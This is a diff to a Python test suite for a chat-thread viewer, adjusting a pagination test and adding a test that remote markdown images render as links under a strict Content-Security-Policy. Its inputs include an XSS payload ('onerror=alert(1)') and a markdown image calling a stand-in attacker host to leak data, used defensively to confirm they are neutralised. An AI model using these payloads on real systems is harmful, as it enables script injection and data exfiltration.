@@ -51,13 +51,13 @@ def test_it_searches_threads_by_text_assistant_and_dates(people, owner, api):
 
 def test_it_keeps_the_filters_when_loading_more(people, owner, api):
     ids = [api.post("threads", json={"messages": [{"role": "user", "content": f"topic alpha {i}"}]}).json()["id"]
-           for i in range(27)]
+           for i in range(52)]
     noise = api.post("threads", json={"messages": [{"role": "user", "content": "beta"}]}).json()["id"]
     client = client_for(people.viewer)
     first = htmx(client, "get", _url(owner), {"q": "alpha"}).content.decode()
     assert "Load more" in first and noise not in first
     assert "?q=alpha&after=" in first
-    last_shown = ids[::-1][24]
+    last_shown = ids[::-1][49]
     rest = htmx(client, "get", _url(owner), {"q": "alpha", "after": last_shown}).content.decode()
     assert ids[1] in rest and ids[0] in rest and noise not in rest and "Load more" not in rest
 
@@ -163,3 +163,17 @@ def test_it_escapes_quoted_text(people, owner, api):
     _cited_message(thread["id"], file_id, quote="<img src=x onerror=alert(1)>")
     body = client_for(people.viewer).get(_url(owner, f"/{thread['id']}")).content.decode()
     assert "<img src=x" not in body and "&lt;img src=x onerror=alert(1)&gt;" in body
+
+
+def test_it_shows_remote_markdown_images_as_links_and_stored_images_inline(people, owner, api):
+    file_id = api.post("files", files={"file": ("chart.png", b"\x89PNG\r\n")}, data={"purpose": "vision"}).json()["id"]
+    content = [{"type": "text", "text": "See ![the secret](https://evil.example/leak?d=42)"},
+               {"type": "image_file", "image_file": {"file_id": file_id}}]
+    thread = api.post("threads", json={"messages": [{"role": "user", "content": content}]}).json()
+    response = client_for(people.viewer).get(_url(owner, f"/{thread['id']}"))
+    body = response.content.decode()
+    assert '<img src="https://evil.example' not in body and "evil.example" in body
+    assert '<a href="https://evil.example/leak?d=42" class="remote-image"' in body and "Image: the secret" in body
+    assert f'src="/p/{owner.project.pk}/files/{file_id}/download?inline=1"' in body
+    csp = response["Content-Security-Policy"]
+    assert "script-src 'self'" in csp and "img-src 'self' data:" in csp and "unsafe-inline" not in csp
